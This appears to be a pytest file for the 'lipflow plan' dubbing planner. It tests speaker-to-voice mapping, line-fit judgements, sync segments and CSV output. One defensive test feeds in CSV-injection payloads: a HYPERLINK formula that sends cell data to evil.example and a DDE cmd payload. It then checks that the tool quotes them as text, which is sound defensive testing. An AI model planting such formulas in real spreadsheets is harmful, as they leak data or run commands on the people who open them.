"""Planning a dub from lines through `lipflow plan`: speakers mapped to voices, each line's fit in
its slot judged before paying, sync segments from an audio track, and a matrix of languages."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from lipflow.cli import cli
from mock_server import MockServer

REPO = Path(__file__).parents[2]
MEDIA = REPO / "recipes" / "media"


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def recipe(tmp_path: Path, body: str) -> Path:
    return write(
        tmp_path,
        "dub.yaml",
        f"version: 1\ninputs:\n  video: {{video: {MEDIA / 'interview.mp4'}}}\n{body}",
    )


def plan_lines(path: Path, *args: str) -> tuple[int, dict[str, Any]]:
    result = CliRunner().invoke(cli, ["plan", "--lines", "--format", "json", str(path), *args])
    return result.exit_code, json.loads(result.stdout)


SRT = """1
00:00:01,000 --> 00:00:04,000
[SPEAKER_01]: Hello there, how are you?

2
00:00:05,000 --> 00:00:08,000
[SPEAKER_02]: Fine, thanks for asking.

3
00:00:09,000 --> 00:00:12,000
Narrator: And so the day went on.

4
00:00:13,000 --> 00:00:16,000
Look: nobody speaks here.
"""


def test_speakers_from_prefixes_are_mapped_to_voices_and_stripped_from_the_text(
    tmp_path: Path,
) -> None:
    write(tmp_path, "en.srt", SRT)
    path = recipe(
        tmp_path,
        """  en: {lines: en.srt}
voices: {SPEAKER_01: Sophia, SPEAKER_02: Liam, Narrator: James}
fit: {tolerance: 5}
steps:
  dub:
    use: runware/pixverse-lipsync
    lipsync: {video: video, lines: en, voice: Emily}
""",
    )

    code, report = plan_lines(path)

    assert code == 0, report["problems"]
    got = [(line["speaker"], line["voice"], line["text"]) for line in report["lines"]]
    assert got == [
        ("SPEAKER_01", "Sophia", "Hello there, how are you?"),
        ("SPEAKER_02", "Liam", "Fine, thanks for asking."),
        ("Narrator", "James", "And so the day went on."),
        (None, "Emily", "Look: nobody speaks here."),  # one "Look:" is not a speaker
    ]
    plan = json.loads(CliRunner().invoke(cli, ["plan", "--format", "json", str(path)]).stdout)
    speech = [job["requests"][-2]["json"] for job in plan["jobs"]]
    assert [s[0]["speech"] for s in speech][:2] == [
        {"text": "Hello there, how are you?", "voice": "Sophia"},
        {"text": "Fine, thanks for asking.", "voice": "Liam"},
    ]


def test_an_unmapped_speaker_is_a_planning_error_listing_the_speakers_found(
    tmp_path: Path,
) -> None:
    write(tmp_path, "en.srt", SRT)
    path = recipe(
        tmp_path,
        """  en: {lines: en.srt}
voices: {SPEAKER_01: Sophia, SPEAKER_2: Liam}
steps:
  dub:
    use: runware/pixverse-lipsync
    lipsync: {video: video, lines: en}
""",
    )

    code, report = plan_lines(path)

    assert code == 1
    (problem,) = [p for p in report["problems"] if p["code"] == "unmapped-speaker"]
    assert (problem["file"], problem["line"]) == (str(tmp_path / "en.srt"), 6)
    assert "speaker 'SPEAKER_02' has no voice" in problem["message"]
    assert "speakers found: SPEAKER_01, SPEAKER_02" in problem["message"]
    assert problem["suggestion"] == "SPEAKER_2"


TIGHT = """1
00:00:01,000 --> 00:00:02,000
This sentence is far too long to be spoken in a single second of video.

2
00:00:03,000 --> 00:00:06,000
Just right for three seconds.

3
00:00:07,000 --> 00:00:15,000
Too short.
"""


@pytest.mark.parametrize(("on_misfit", "code"), [("warn", 0), ("error", 1)])
def test_each_line_fit_is_judged_and_misfits_are_warnings_or_errors(
    tmp_path: Path, on_misfit: str, code: int
) -> None:
    write(tmp_path, "en.srt", TIGHT)
    path = recipe(
        tmp_path,
        f"""  en: {{lines: en.srt}}
fit: {{tolerance: 0.5, on_misfit: {on_misfit}}}
steps:
  dub:
    use: runware/pixverse-lipsync
    lipsync: {{video: video, lines: en, voice: Emily}}
""",
    )

    exit_code, report = plan_lines(path)

    assert exit_code == code
    fits = [(line["fit"], line["fit_note"].split(" (")[0]) for line in report["lines"]]
    assert fits[1] == ("fits", "fits")
    assert fits[0][0] == "misfit" and fits[0][1].startswith("too long by ")
    assert fits[2][0] == "misfit" and fits[2][1].startswith("too short by ")
    misfits = [p for p in report["problems"] if p["code"] == "line-fit"]
    assert [(p["line"], p["severity"]) for p in misfits] == [
        (2, "warning" if on_misfit == "warn" else "error"),
        (10, "warning" if on_misfit == "warn" else "error"),
    ]
    too_long = report["lines"][0]
    assert float(fits[0][1].split()[3]) == pytest.approx(
        too_long["estimate_low"] - (1.0 + 0.5), abs=0.06
    )


def test_speech_estimates_are_ranges_that_depend_on_the_script(tmp_path: Path) -> None:
    # The same 15 characters: kana are about a syllable each, Latin letters a fraction of one.
    write(
        tmp_path,
        "mixed.csv",
        "start,end,text\n0,5,abcdefghij klmn\n6,11,こんにちはこんにちはこんにちは\n12,17,你好你好你好你好你好你好你好你\n",
    )
    path = recipe(
        tmp_path,
        """  mixed: {lines: mixed.csv}
fit: {tolerance: 10}
steps:
  dub:
    use: runware/pixverse-lipsync
    lipsync: {video: video, lines: mixed, voice: Emily}
""",
    )

    code, report = plan_lines(path)

    assert code == 0
    latin, kana, han = report["lines"]
    for line in report["lines"]:
        assert line["estimate_low"] < line["estimate_high"]
    assert latin["estimate_high"] < kana["estimate_low"] < han["estimate_low"]
    assert "15 Kana characters at 6-9/s" in kana["estimate_basis"]
    assert latin["usd_low"] < latin["usd_high"], "the cost is a range too"


def test_lines_over_an_audio_track_become_sync_segments_with_their_fit(tmp_path: Path) -> None:
    write(
        tmp_path,
        "lines.csv",
        "start,end,text\n0.5,2.5,First answer.\n2.8,4.4,Second answer.\n6,9,Past the audio's end.\n",
    )
    path = recipe(
        tmp_path,
        f"""  dub_audio: {{audio: {MEDIA / "answer_1.wav"}}}
  script: {{lines: lines.csv}}
steps:
  dub:
    lipsync: {{video: video, audio: dub_audio, lines: script}}
""",
    )

    code, report = plan_lines(path)
    plan = json.loads(CliRunner().invoke(cli, ["plan", "--format", "json", str(path)]).stdout)

    (job,) = plan["jobs"]
    assert job["model"] == "sync:lipsync-2@1"
    segments = job["requests"][-2]["json"][0]["providerSettings"]["sync"]["segments"]
    assert [
        (s["startTime"], s["endTime"], s["audioStartTime"], s["audioEndTime"]) for s in segments
    ] == [
        (0.5, 2.5, 0.5, 2.5),
        (2.8, 4.4, 2.8, 4.4),
        (6.0, 9.0, 6.0, 9.0),
    ]
    assert [line["fit"] for line in report["lines"]] == ["fits", "fits", "misfit"]
    assert "too short by" in report["lines"][2]["fit_note"]  # answer_1.wav ends at 4.5 s
    assert code == 0

    remapped = path.read_text() + "    options: {providerSettings: {sync: {syncMode: remap}}}\n"
    path.write_text(remapped)
    _, report = plan_lines(path)
    assert report["lines"][2]["fit"] == "handled"
    assert "syncMode remap" in report["lines"][2]["fit_note"]


def test_a_matrix_ranges_over_subtitle_files_in_two_languages(tmp_path: Path) -> None:
    path = recipe(
        tmp_path,
        f"""  es: {{lines: {MEDIA / "interview.es.srt"}, language: es}}
  fr: {{lines: {MEDIA / "interview.fr.vtt"}, language: fr}}
voices: {{SPEAKER_01: Sophia, SPEAKER_02: Liam}}
fit: {{tolerance: 2}}
steps:
  dub:
    use: runware/pixverse-lipsync
    matrix: {{lang: [es, fr]}}
    lipsync: {{video: video, lines: "{{{{ matrix.lang }}}}"}}
""",
    )

    code, report = plan_lines(path)

    assert code == 0, report["problems"]
    assert [line["job"] for line in report["lines"]] == [
        f"dub[lang={lang},line={start}]"
        for lang in ("es", "fr")
        for start in ("00:00:00.500", "00:00:03.600", "00:00:08.000", "00:00:11.000")
    ]
    assert {line["lines"] for line in report["lines"]} == {"es", "fr"}
    assert report["lines"][4]["text"].startswith("Bienvenue")
    assert report["lines"][4]["location"].endswith("interview.fr.vtt:5")


def test_plan_needs_no_key_and_sends_nothing(lipflow_mock: MockServer, tmp_path: Path) -> None:
    env = {
        "LIPFLOW_RUNWARE_URL": lipflow_mock.urls.runware,
        "RUNWARE_API_KEY": "",
        "PIXVERSE_API_KEY": "",
        "WAVESPEED_API_KEY": "",
    }
    for name in ("interview_subtitles.yaml", "interview_script.yaml"):
        result = CliRunner().invoke(cli, ["plan", "--lines", str(REPO / "recipes" / name)], env=env)
        assert result.exit_code == 0, result.output
    assert lipflow_mock.simulator.journal.records() == []


def test_the_readme_shows_the_real_line_table(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    command = "lipflow plan recipes/interview_subtitles.yaml --lines"
    shown = readme.split(f"$ {command}\n", 1)[1].split("\n```", 1)[0]
    result = CliRunner().invoke(
        cli, ["plan", "--lines", "recipes/interview_subtitles.yaml"], catch_exceptions=False
    )
    assert shown == result.stdout.rstrip("\n")


def test_on_a_model_without_segments_lines_over_audio_become_pieces_of_video_and_audio(
    tmp_path: Path,
) -> None:
    write(tmp_path, "lines.csv", "start,end,text\n0.5,2.5,First answer.\n3,4.5,Second answer.\n")
    path = recipe(
        tmp_path,
        f"""  dub_audio: {{audio: {MEDIA / "answer_1.wav"}}}
  script: {{lines: lines.csv}}
steps:
  dub:
    use: runware/pixverse-lipsync
    lipsync: {{video: video, audio: dub_audio, lines: script}}
""",
    )

    result = CliRunner().invoke(cli, ["plan", "--format", "json", str(path)])

    assert result.exit_code == 0, result.output
    jobs = json.loads(result.stdout)["jobs"]
    assert [job["id"] for job in jobs] == ["dub[line=00:00:00.500]", "dub[line=00:00:03.000]"]
    first = jobs[0]["media"]
    assert first["video"]["value"].endswith("interview.mp4#t=0.500,2.500")
    assert first["audio"]["value"].endswith("answer_1.wav#t=0.500,2.500")
    assert first["audio"]["duration"] == 2.0
    assert jobs[0]["cost"]["usd"] == pytest.approx(2.0 * 0.0136)


def test_csv_is_the_line_table_format_only(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["plan", "--format", "csv", str(REPO / "recipes" / "interview_script.yaml")]
    )
    assert result.exit_code == 2
    assert "--format csv prints the line table: add --lines" in result.stderr


def test_the_providers_verdict_on_a_voice_or_a_text_is_placed_where_it_was_written(
    tmp_path: Path,
) -> None:
    long_line = "word " * 45  # 225 characters: PixVerse TTS takes at most 200
    write(
        tmp_path,
        "en.srt",
        f"1\n00:00:01,000 --> 00:00:04,000\n[SPEAKER_01]: Hi.\n\n"
        f"2\n00:00:05,000 --> 00:00:19,000\n{long_line}\n",
    )
    path = recipe(
        tmp_path,
        """  en: {lines: en.srt}
voices: {SPEAKER_01: Sofia}
fit: {tolerance: 20}
steps:
  dub:
    use: runware/pixverse-lipsync
    lipsync: {video: video, lines: en, voice: Emily}
""",
    )

    code, report = plan_lines(path)

    assert code == 1
    errors = [p for p in report["problems"] if p["severity"] == "error"]
    (voice,) = [p for p in errors if p["file"] == str(path)]
    assert (voice["line"], voice["path"]) == (5, "$.voices.SPEAKER_01")
    assert voice["suggestion"] == "Sophia"
    texts = [p for p in errors if p["file"] == str(tmp_path / "en.srt")]
    assert texts and all(p["line"] == 6 for p in texts)
    text = texts[0]
    assert "200" in text["message"]


def test_a_recipe_without_lines_says_so_in_the_line_table() -> None:
    result = CliRunner().invoke(cli, ["plan", "--lines", str(REPO / "recipes" / "quickstart.yaml")])
    assert result.exit_code == 0
    assert "no step dubs from lines" in result.stdout


def test_csv_line_text_that_a_spreadsheet_would_run_as_a_formula_is_quoted_as_text(
    tmp_path: Path,
) -> None:
    """OWASP "CSV Injection": a cell starting with = + - @ (or a tab or CR) is a formula in
    Excel, LibreOffice and Sheets, so such text cells get a leading ' and numbers stay numbers."""
    write(
        tmp_path,
        "cues.srt",
        '1\n00:00:01,000 --> 00:00:04,000\n=HYPERLINK("http://evil.example/?"&A1,"click")\n\n'
        "2\n00:00:05,000 --> 00:00:08,000\n+cmd|'/C calc'!A0\n\n"
        "3\n00:00:09,000 --> 00:00:12,000\n-2+3 is what we said.\n\n"
        "4\n00:00:13,000 --> 00:00:16,000\n@SUM(A1:A2) and more words to say.\n\n"
        "5\n00:00:17,000 --> 00:00:20,000\nHola, 1+1 = 2.\n",
    )
    path = recipe(
        tmp_path,
        """  es: {lines: "cues.srt", language: es}
steps:
  dub:
    use: runware/pixverse-lipsync
    lipsync: {video: video, lines: es, voice: Sophia}
""",
    )

    result = CliRunner().invoke(cli, ["plan", "--lines", "--format", "csv", str(path)])

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["text"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+cmd|'/C calc'!A0",
        "'-2+3 is what we said.",
        "'@SUM(A1:A2) and more words to say.",
        "Hola, 1+1 = 2.",
    ]
    for row in rows:
        for column in ("start", "end", "slot", "estimate_low", "usd_low"):
            float(row[column])  # numbers are written as numbers, never quoted


def test_a_cue_running_past_the_videos_end_is_judged_in_the_video_it_has(tmp_path: Path) -> None:
    """The video (20 s) ends 2 s into a 7 s cue: there are no frames after it to lip-sync, so
    the line's slot is those 2 s, its speech is judged too long for them (not too short for 7 s),
    and a warning at the cue says where the video ends."""
    write(
        tmp_path,
        "es.srt",
        "1\n00:00:18,000 --> 00:00:25,000\n"
        "Esta es una frase bastante larga para decir al final del video.\n",
    )
    steps = "steps: {dub: {lipsync: {video: video, lines: es, voice: Sophia}}}\n"

    code, report = plan_lines(recipe(tmp_path, f"  es: {{lines: es.srt, language: es}}\n{steps}"))

    assert code == 0, report["problems"]
    (line,) = report["lines"]
    assert (line["start"], line["end"]) == (18.0, 20.0)
    assert line["fit"] == "misfit" and line["fit_note"].startswith("too long by ")
    assert "slot 2.0 s" in line["fit_note"]
    (past,) = [p for p in report["problems"] if p["code"] == "line-past-media"]
    assert (past["severity"], past["line"], past["file"].endswith("es.srt")) == (
        "warning",
        2,
        True,
    )
    assert "ends at 25 s" in past["message"] and "'video' ends at 20 s" in past["message"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("es.srt", "1\n00:00:01,000 --> 00:00:03,000\n\n\n2\n00:00:04,000 --> 00:00:06,000\n   \n"),
        (
            "es.vtt",
            "WEBVTT\n\n00:01.000 --> 00:03.000\n<i></i>\n\n00:04.000 --> 00:06.000\n[music]\n",
        ),
    ],
)
def test_a_subtitle_file_whose_cues_are_all_empty_is_an_error_not_an_empty_plan(
    tmp_path: Path, name: str, text: str
) -> None:
    """Cues with no words (or a label alone) are left out with a warning each; a file left with
    nothing to dub is an error at the file (exit 1), never a plan of 0 jobs that exits 0."""
    write(tmp_path, name, text)
    steps = "steps: {dub: {lipsync: {video: video, lines: es, voice: Sophia}}}\n"
    path = recipe(tmp_path, f"  es: {{lines: {name}, language: es}}\n{steps}")

    result = CliRunner().invoke(cli, ["plan", "--format", "json", str(path)])

    assert result.exit_code == 1, result.output
    report = json.loads(result.stdout)
    (nothing,) = report["errors"]
    assert nothing["code"] == "lines-nothing-to-dub"
    assert (Path(nothing["file"]).name, nothing["line"]) == (name, 1)
    assert "nothing to dub" in nothing["message"] and "all 2 of its line(s)" in nothing["message"]
    assert report["jobs"] == []
